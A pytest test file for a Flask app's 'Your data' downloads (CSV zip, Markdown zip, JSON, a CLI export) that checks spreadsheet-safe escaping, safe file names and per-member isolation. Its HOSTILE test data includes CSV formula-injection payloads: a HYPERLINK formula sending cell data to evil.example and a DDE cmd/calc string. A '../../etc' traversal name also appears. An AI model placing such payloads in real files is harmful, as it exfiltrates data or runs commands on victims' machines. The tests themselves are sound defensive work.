"""The downloads of "Your data": the CSV zip (spreadsheet-safe, with a date range), the Markdown
zip, the JSON file, their headers, their owner, and `flask export`."""

import csv
import io
import json
import re
import zipfile
from datetime import date, datetime, timedelta

import pytest
import yaml
from sqlalchemy import text

from app.data.batches import interview_batches, read_one_snapshot
from app.data.csv_columns import INTERVIEW_COLUMNS
from app.data.csv_export import (
    ACTION_ITEM_COLUMNS,
    DEBRIEF_COLUMNS,
    FEEDBACK_COLUMNS,
    QUESTION_COLUMNS,
)
from app.extensions import db
from app.models import (
    ActionItem,
    FeedbackRequest,
    ForgottenQuestion,
    Interview,
    Interviewer,
    Question,
    RejectionReason,
    SelfAssessment,
    WentWell,
)
from tests.crawler import form_on_page, parse_forms, submit
from tests.debrief_factories import category_id
from tests.stored_rows import change_between, stored_rows

CSV_FILES = {
    "interviews.csv": INTERVIEW_COLUMNS,
    "questions.csv": QUESTION_COLUMNS,
    "debriefs.csv": DEBRIEF_COLUMNS,
    "feedback.csv": FEEDBACK_COLUMNS,
    "action_items.csv": ACTION_ITEM_COLUMNS,
}
# Text a spreadsheet would run, and text that must come back exactly as it went in.
HOSTILE = {
    "company": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "role_title": "+1-555-0100 analyst",
    "notes": "-2+3 and more",
    "interviewer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "question": "\tTabbed question",
    "answer": "\rCarriage first",
    "better_answer": "'Quoted already",
    "went_well": 'Commas, "quotes" and\nline breaks',
}


def full_interview(app, owner_id: int, when: datetime, company: str = "Northwind", **texts) -> int:
    """An interview with every part filled (interviewer, reason, two questions, a debrief with
    its lists, feedback with a reply, an action item); `texts` override the words. Its id."""
    text = {
        "role_title": "Data analyst",
        "notes": "Panel of two.",
        "interviewer": "Priya Raman",
        "question": "Tell me about yourself.",
        "answer": "Degree, then three jobs.",
        "better_answer": "Start from the job I want.",
        "went_well": "Calm on the SQL exercise",
        **texts,
    }
    with app.app_context():
        interview = Interview(
            owner_id=owner_id, company=company, role_title=text["role_title"], occurred_at=when,
            stage="technical", format="video", outcome="rejected", notes=text["notes"],
            job_url="https://northwind.example/jobs/42",
        )
        interview.interviewers.append(Interviewer(name=text["interviewer"], title="Head of data",
                                                  email="priya@northwind.example"))
        interview.rejection_reasons.append(RejectionReason(text="Chose someone with more SQL"))
        interview.questions.append(Question(
            owner_id=owner_id, position=0, text=text["question"], answer=text["answer"],
            better_answer=text["better_answer"], rating=2, froze=True,
            category_id=category_id(app, owner_id, "Introduction"),
        ))
        interview.questions.append(Question(owner_id=owner_id, position=1, text="Why us?", rating=4))
        db.session.add(interview)
        db.session.flush()
        assessment = SelfAssessment(
            owner_id=owner_id, interview_id=interview.id, on_time=True, dressed_appropriately=True,
            researched_company=False, researched_role=None, prepared_questions=True,
            sold_short=True, sold_short_note="Played down the churn project.", negative_tone=False,
            overall_feeling=3, do_differently="Research the company first.",
        )
        assessment.went_well.append(WentWell(text=text["went_well"]))
        assessment.forgotten_questions.append(ForgottenQuestion(text="How is success measured?"))
        db.session.add(assessment)
        db.session.add(FeedbackRequest(
            owner_id=owner_id, interview_id=interview.id, status="received",
            sent_on=when.date() + timedelta(days=1), channel="email", sent_to="priya@northwind.example",
            reply="Strong SQL; the weakness answer felt rehearsed.", reply_from="Priya Raman",
            reply_on=when.date() + timedelta(days=4),
        ))
        db.session.add(ActionItem(owner_id=owner_id, interview_id=interview.id,
                                  text=f"Rehearse the weakness story ({company})"))
        db.session.commit()
        return interview.id


def uid_of(app, interview_id: int) -> str:
    """An interview's stable identifier."""
    with app.app_context():
        return db.session.get(Interview, interview_id).uid


def read_zip(response) -> zipfile.ZipFile:
    """The zip a download answered with, after checking that it is one and intact."""
    assert response.status_code == 200
    assert response.mimetype == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert archive.testzip() is None
    return archive


def read_csvs(response) -> dict[str, list[dict]]:
    """Every CSV of a CSV zip, parsed: rows as dicts by column. Checks the BOM and the headers."""
    archive = read_zip(response)
    assert sorted(archive.namelist()) == sorted(CSV_FILES)
    tables = {}
    for name, columns in CSV_FILES.items():
        raw = archive.read(name)
        assert raw.startswith(b"\xef\xbb\xbf"), f"{name} has no byte order mark"
        reader = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
        header, *rows = list(reader)
        assert tuple(header) == columns
        tables[name] = [dict(zip(header, row, strict=True)) for row in rows]
    return tables


def unescaped(cell: str) -> str:
    """A cell as a reader of the export takes it back: one leading ' off (csv_columns.py)."""
    return cell.removeprefix("'")


def export_page_form(client, field: str = "start"):
    """The CSV export's form on "Your data", as the browser has it."""
    page = client.get("/data/")
    assert page.status_code == 200
    return next(form for form in parse_forms("/data/", page.get_data(as_text=True)) if form.named(field)
                and form.action.startswith("/data/export/csv"))


def download_csv(client, start: str = "", end: str = ""):
    """Fill the CSV export's dates on the page and press its button."""
    form = export_page_form(client)
    return submit(client, form, form.submission(changes={"start": start, "end": end}))


# The page.


def test_the_export_section_offers_every_download(member_client):
    page = member_client.get("/data/").get_data(as_text=True)
    for url in ("/data/export/json", "/data/export/markdown", "/data/report"):
        assert f'href="{url}"' in page
    form = export_page_form(member_client)
    assert form.method == "get"
    assert form.field_names() == ["start", "end"]
    assert form.value("start") == "" and form.value("end") == ""
    assert re.search(r'<label for="start">From</label>', page)


# CSV.


def test_the_csv_zip_parses_back_to_the_stored_text(app, member, member_client):
    first = full_interview(app, member.id, datetime(2026, 2, 3, 9, 30), company="Zürich Äpfel GmbH",
                           notes="Two lines\nof notes, with “quotes”, commas and ü")
    tables = read_csvs(download_csv(member_client))
    [interview] = tables["interviews.csv"]
    assert interview == {
        "interview_id": uid_of(app, first),
        "date": "2026-02-03",
        "time": "09:30",
        "company": "Zürich Äpfel GmbH",
        "role": "Data analyst",
        "stage": "Technical",
        "format": "Video",
        "outcome": "Rejected",
        "job_url": "https://northwind.example/jobs/42",
        "interviewers": "Priya Raman (Head of data) <priya@northwind.example>",
        "rejection_reasons": "Chose someone with more SQL",
        "notes": "Two lines\nof notes, with “quotes”, commas and ü",
        "feedback_status": "Received",
    }
    questions = tables["questions.csv"]
    assert [(q["number"], q["question"], q["rating"], q["froze"], q["category"]) for q in questions] == [
        ("1", "Tell me about yourself.", "2", "yes", "Introduction"),
        ("2", "Why us?", "4", "no", ""),
    ]
    assert {q["interview_id"] for q in questions} == {uid_of(app, first)}
    [debrief] = tables["debriefs.csv"]
    assert (debrief["on_time"], debrief["researched_company"], debrief["researched_role"]) == ("yes", "no", "")
    assert debrief["finished"] == "no"  # no completed_at: a draft
    assert debrief["went_well"] == "Calm on the SQL exercise"
    assert debrief["forgotten_questions"] == "How is success measured?"
    [feedback] = tables["feedback.csv"]
    assert (feedback["status"], feedback["sent_on"], feedback["reply_on"]) == ("Received", "2026-02-04", "2026-02-07")
    assert feedback["reply"] == "Strong SQL; the weakness answer felt rehearsed."
    [item] = tables["action_items.csv"]
    assert item["action"] == "Rehearse the weakness story (Zürich Äpfel GmbH)" and item["done"] == "no"


def test_cells_a_spreadsheet_would_run_are_defused(app, member, member_client):
    full_interview(app, member.id, datetime(2026, 2, 3, 9, 30), company=HOSTILE["company"],
                   **{key: value for key, value in HOSTILE.items() if key != "company"})
    tables = read_csvs(download_csv(member_client))
    [interview] = tables["interviews.csv"]
    [question, _second] = tables["questions.csv"]
    [debrief] = tables["debriefs.csv"]
    cells = {
        "company": interview["company"],
        "role_title": interview["role"],
        "notes": interview["notes"],
        "question": question["question"],
        "answer": question["answer"],
        "better_answer": question["better_answer"],
        "went_well": debrief["went_well"],
    }
    for key, cell in cells.items():
        original = HOSTILE[key]
        if original[0] in "=+-@\t\r'":
            assert cell == "'" + original, key  # shown as text, never run
        else:
            assert cell == original, key
        assert unescaped(cell) == original, key
    # The interviewers cell starts with the name: defused as a whole.
    assert interview["interviewers"].startswith("'@SUM(1+1)")
    # No cell of any file starts with a formula character.
    for rows in tables.values():
        for row in rows:
            for value in row.values():
                assert not value[:1] in ("=", "+", "-", "@", "\t", "\r"), value


def test_the_date_range_keeps_the_interviews_held_in_it_and_their_rows(app, member, member_client):
    full_interview(app, member.id, datetime(2026, 1, 31, 23, 30), company="January Co")
    february = full_interview(app, member.id, datetime(2026, 2, 1, 0, 0), company="February Co")
    last_day = full_interview(app, member.id, datetime(2026, 2, 28, 23, 59), company="Late February Co")
    full_interview(app, member.id, datetime(2026, 3, 1, 0, 0), company="March Co")
    response = download_csv(member_client, "2026-02-01", "2026-02-28")
    assert 'filename="debrief-csv-2026-02-01-to-2026-02-28.zip"' in response.headers["Content-Disposition"]
    tables = read_csvs(response)
    kept = {uid_of(app, february), uid_of(app, last_day)}
    assert [row["company"] for row in tables["interviews.csv"]] == ["February Co", "Late February Co"]
    for name in ("questions.csv", "debriefs.csv", "feedback.csv", "action_items.csv"):
        assert {row["interview_id"] for row in tables[name]} == kept, name
    assert len(tables["questions.csv"]) == 4


def test_an_open_range_and_action_items_of_no_interview(app, member, member_client):
    full_interview(app, member.id, datetime(2025, 6, 1, 10, 0), company="Old Co")
    full_interview(app, member.id, datetime(2026, 3, 1, 10, 0), company="New Co")
    with app.app_context():
        db.session.add(ActionItem(owner_id=member.id, text="Practise salary talk"))
        db.session.commit()
    everything = read_csvs(download_csv(member_client))
    assert [row["company"] for row in everything["interviews.csv"]] == ["Old Co", "New Co"]
    assert everything["action_items.csv"][-1]["action"] == "Practise salary talk"
    assert everything["action_items.csv"][-1]["interview_id"] == ""
    since = read_csvs(download_csv(member_client, start="2026-01-01"))
    assert [row["company"] for row in since["interviews.csv"]] == ["New Co"]
    # Written today, so inside a range that runs on to today, outside one that ended before.
    assert since["action_items.csv"][-1]["action"] == "Practise salary talk"
    until = read_csvs(download_csv(member_client, end="2025-12-31"))
    assert [row["company"] for row in until["interviews.csv"]] == ["Old Co"]
    assert [row["action"] for row in until["action_items.csv"]] == ["Rehearse the weakness story (Old Co)"]


@pytest.mark.parametrize(
    ("start", "end", "field", "message"),
    [
        ("2026-03-01", "2026-02-01", "end", "The end of the range is before its start"),
        ("2026-02-30", "", "start", "There is no day 30 in month 2 of 2026"),
        ("1066-10-14", "", "start", "Enter a date between 1970 and 2100"),
        ("", "next tuesday", "end", "Enter a date such as 2026-03-14."),
    ],
)
def test_a_bad_range_is_explained_beside_its_field(app, member, member_client, start, end, field, message):
    full_interview(app, member.id, datetime(2026, 2, 3, 9, 30))
    before = stored_rows(app)
    response = download_csv(member_client, start, end)
    assert response.status_code == 200
    assert response.mimetype == "text/html"
    assert "Content-Disposition" not in response.headers
    page = response.get_data(as_text=True)
    error = re.search(rf'<small id="{field}-error" class="field-error">([^<]*)</small>', page)
    assert error and message in error.group(1)
    assert f'aria-describedby="{field}-error"' in page
    # What was typed is still in the fields, and nothing changed.
    again = form_on_page(page, "start")
    assert (again["start"], again["end"]) == (start, end)
    assert not change_between(before, stored_rows(app))


# Markdown.


def read_markdown(response) -> dict[str, str]:
    """The files of a Markdown zip by name (the folder left out), after checking the folder."""
    archive = read_zip(response)
    names = archive.namelist()
    folders = {name.split("/", 1)[0] for name in names}
    assert folders == {f"debrief-markdown-{date.today().isoformat()}"}
    return {name.split("/", 1)[1]: archive.read(name).decode("utf-8") for name in names}


def front_matter(text: str) -> tuple[dict, str]:
    """A Markdown file's YAML front matter, parsed, and the rest of the file."""
    match = re.match(r"---\n(.*?)\n---\n(.*)", text, re.DOTALL)
    assert match, text[:200]
    return yaml.safe_load(match.group(1)), match.group(2)


def test_the_markdown_zip_has_one_readable_file_per_interview(app, member, member_client):
    interview_id = full_interview(app, member.id, datetime(2026, 2, 3, 9, 30), company="Globex")
    response = member_client.get("/data/export/markdown")
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="debrief-markdown-{date.today().isoformat()}.zip"'
    )
    files = read_markdown(response)
    assert sorted(files) == ["2026-02-03-Globex-Data-analyst.md", "index.md"]
    meta, body = front_matter(files["2026-02-03-Globex-Data-analyst.md"])
    assert meta == {
        "company": "Globex", "role": "Data analyst", "date": date(2026, 2, 3), "time": "09:30",
        "stage": "Technical", "format": "Video", "outcome": "Rejected", "id": uid_of(app, interview_id),
    }
    for expected in [
        "# Globex: Data analyst",
        "Tuesday 3 February 2026 at 09:30 · Technical · Video · Outcome: Rejected",
        "Interviewers: Priya Raman, Head of data <priya@northwind.example>",
        "## Why I was not chosen\n\n- Chose someone with more SQL",
        "## Notes\n\nPanel of two.",
        "### 1. Tell me about yourself.\n\n*Introduction · my rating 2/5 · I froze*",
        "**What I answered**\n\nDegree, then three jobs.",
        "**Better answer for next time**\n\nStart from the job I want.",
        "### 2. Why us?\n\n*No category · my rating 4/5*",
        "*This debrief is a draft",
        "- [x] Arrived on time",
        "- [ ] Researched the company: missed",
        "- [ ] Researched the role: not answered",
        "- Sold myself short: yes. Played down the churn project.",
        "- Set a negative tone or listed my weaknesses: no",
        "Overall feeling: 3/5",
        "## What went well\n\n- Calm on the SQL exercise",
        "## Questions I meant to ask and forgot\n\n- How is success measured?",
        "## What to do differently\n\nResearch the company first.",
        "Status: Received",
        "Asked on Wednesday 4 February 2026 by email, to priya@northwind.example.",
        "Reply from Priya Raman, Saturday 7 February 2026:\n\n> Strong SQL; the weakness answer felt rehearsed.",
        "## Action items\n\n- [ ] Rehearse the weakness story (Globex)",
    ]:
        assert expected in body, expected
    assert "[2026-02-03: Globex, Data analyst](<2026-02-03-Globex-Data-analyst.md>)" in files["index.md"]
    assert "Mia Member" in files["index.md"]


def test_markdown_file_names_are_safe_and_unique_and_front_matter_is_quoted(app, member, member_client):
    when = datetime(2026, 2, 3, 9, 30)
    tricky = 'Acme: "Labs" # 1 / ../../etc'
    for _ in range(2):
        full_interview(app, member.id, when, company=tricky, role_title="- [x] Lead: yes")
    full_interview(app, member.id, when, company="ACME Labs 1 etc", role_title="x Lead yes")
    full_interview(app, member.id, when, company="株式会社", role_title="エンジニア")
    files = read_markdown(member_client.get("/data/export/markdown"))
    names = sorted(name for name in files if name != "index.md")
    assert len(names) == 4
    assert len({name.lower() for name in names}) == 4  # unique even where case does not count
    for name in names:
        assert re.fullmatch(r"2026-02-03[A-Za-z0-9_.-]*\.md", name), name
    assert "2026-02-03.md" in names  # nothing safe left of the name but the date
    assert {"2026-02-03-Acme-Labs-1-etc-x-Lead-yes.md", "2026-02-03-Acme-Labs-1-etc-x-Lead-yes-2.md",
            "2026-02-03-ACME-Labs-1-etc-x-Lead-yes-3.md"} < set(names)
    for name in names:
        meta, _body = front_matter(files[name])
        assert meta["company"] in (tricky, "ACME Labs 1 etc", "株式会社")
        if meta["company"] == tricky:
            assert meta["role"] == "- [x] Lead: yes"


def test_a_member_with_nothing_gets_an_index_only(member_client):
    files = read_markdown(member_client.get("/data/export/markdown"))
    assert list(files) == ["index.md"]
    assert "0 interviews" in files["index.md"]


# Reading in batches.


def test_batches_read_every_interview_once_in_order_even_at_the_same_minute(app, member, other_member):
    same = datetime(2026, 2, 3, 9, 30)
    with app.app_context():
        for n in range(5):
            db.session.add(Interview(owner_id=member.id, company=f"Same {n}", role_title="R", occurred_at=same))
        for days in (-2, -1, 1, 2):
            db.session.add(Interview(owner_id=member.id, company=f"Day {days}", role_title="R",
                                     occurred_at=same + timedelta(days=days)))
        db.session.add(Interview(owner_id=other_member.id, company="Other", role_title="R", occurred_at=same))
        db.session.commit()
        batches = list(interview_batches(member.id, size=2))
        assert [len(batch) for batch in batches] == [2, 2, 2, 2, 1]
        keys = [(i.occurred_at, i.id) for batch in batches for i in batch]
        assert keys == sorted(keys) and len(set(keys)) == 9
        assert "Other" not in {i.company for batch in batches for i in batch}
        only_that_day = list(interview_batches(member.id, start=same.date(), end=same.date(), size=4))
        assert sum(map(len, only_that_day)) == 5


@pytest.mark.postgres_only
def test_an_export_reads_one_snapshot_on_postgresql(app, member):
    with app.app_context():
        read_one_snapshot()
        assert db.session.execute(text("SHOW transaction_isolation")).scalar() == "repeatable read"
        db.session.rollback()


# Every download.


@pytest.mark.parametrize("url", ["/data/export/csv", "/data/export/markdown", "/data/export/json"])
def test_downloads_are_attachments_kept_in_no_cache(app, member, member_client, url):
    full_interview(app, member.id, datetime(2026, 2, 3, 9, 30))
    before = stored_rows(app)
    response = member_client.get(url)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert len(response.data) > 0
    assert not change_between(before, stored_rows(app))


def test_the_json_download_streams_the_members_export(app, member, member_client):
    full_interview(app, member.id, datetime(2026, 2, 3, 9, 30), company="Streamed Co")
    response = member_client.get("/data/export/json")
    assert response.is_streamed
    assert response.mimetype == "application/json"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="debrief-export-{date.today().isoformat()}.json"'
    )
    exported = json.loads(response.get_data(as_text=True))
    assert "Streamed Co" in json.dumps(exported, ensure_ascii=False)


@pytest.mark.parametrize(
    "url", ["/data/export/csv", "/data/export/csv?start=2026-01-01", "/data/export/markdown",
            "/data/export/json", "/data/report"],
)
def test_anonymous_visitors_are_sent_to_login(client, member, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/login")


def test_each_member_exports_only_their_own(app, member, other_member, member_client, other_client):
    full_interview(app, member.id, datetime(2026, 2, 3, 9, 30), company="Mia Secret Employer",
                   notes="Mia's private notes")
    with app.app_context():
        db.session.add(ActionItem(owner_id=member.id, text="Mia's own action"))
        db.session.commit()
    full_interview(app, other_member.id, datetime(2026, 2, 4, 9, 30), company="Otto Co")
    other_tables = read_csvs(download_csv(other_client))
    assert [row["company"] for row in other_tables["interviews.csv"]] == ["Otto Co"]
    other_csv = json.dumps(other_tables)
    assert "Mia" not in other_csv
    other_markdown = read_markdown(other_client.get("/data/export/markdown"))
    assert "Mia" not in json.dumps(other_markdown)
    assert len(other_markdown) == 2
    other_json = other_client.get("/data/export/json").get_data(as_text=True)
    assert "Mia" not in other_json and "Otto Co" in other_json
    # And the member's own exports have theirs, not Otto's.
    own = json.dumps(read_csvs(download_csv(member_client)))
    assert "Mia Secret Employer" in own and "Otto" not in own


# The command line.


def test_flask_export_writes_each_format_to_a_file(app, runner, member, tmp_path):
    full_interview(app, member.id, datetime(2026, 1, 10, 9, 30), company="January Co")
    full_interview(app, member.id, datetime(2026, 2, 3, 9, 30), company="February Co")
    target = tmp_path / "out.zip"
    result = runner.invoke(args=["export", "--email", member.email, "--format", "csv",
                                 "--from", "2026-02-01", "--to", "2026-02-28", "--output", str(target)])
    assert result.exit_code == 0, result.output
    archive = zipfile.ZipFile(target)
    rows = list(csv.DictReader(io.StringIO(archive.read("interviews.csv").decode("utf-8-sig"))))
    assert [row["company"] for row in rows] == ["February Co"]
    result = runner.invoke(args=["export", "--email", member.email.upper(), "--format", "markdown",
                                 "--output", str(tmp_path / "notes.zip")])
    assert result.exit_code == 0, result.output
    assert len(zipfile.ZipFile(tmp_path / "notes.zip").namelist()) == 3
    assert not list(tmp_path.glob("*.part"))


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--format", "csv", "--from", "2026-03-01", "--to", "2026-02-01"], "before its start"),
        (["--format", "json", "--from", "2026-03-01"], "apply to the CSV export only"),
        (["--format", "csv", "--from", "2026-02-30"], "2026-02-30"),
        (["--format", "csv", "--to", "9999-12-31"], "Enter a date between 1970 and 2100"),
    ],
)
def test_flask_export_refuses_a_bad_range(runner, member, tmp_path, arguments, message):
    target = tmp_path / "out.zip"
    result = runner.invoke(args=["export", "--email", member.email, *arguments, "--output", str(target)])
    assert result.exit_code != 0
    assert message in result.output
    assert not target.exists()


def test_flask_export_only_reads_so_writers_never_wait_for_it(app, runner, member, tmp_path, monkeypatch):
    """Commands take the write lock for their transactions; an export must not."""
    from app.data import csv_export
    from app.database import transaction_may_write

    seen = []
    real = csv_export.write_csv_zip

    def spying(user, out, start=None, end=None):
        """The real export, noting whether its transactions would take the write lock."""
        seen.append(transaction_may_write())
        real(user, out, start=start, end=end)
        seen.append(transaction_may_write())

    monkeypatch.setattr(csv_export, "write_csv_zip", spying)
    result = runner.invoke(args=["export", "--email", member.email, "--format", "csv",
                                 "--output", str(tmp_path / "out.zip")])
    assert result.exit_code == 0, result.output
    assert seen == [False, False]


def test_flask_export_names_an_unknown_email(runner, admin, tmp_path):
    result = runner.invoke(args=["export", "--email", "nobody@example.io", "--format", "csv",
                                 "--output", str(tmp_path / "x.zip")])
    assert result.exit_code != 0
    assert "No account has the email nobody@example.io" in result.output
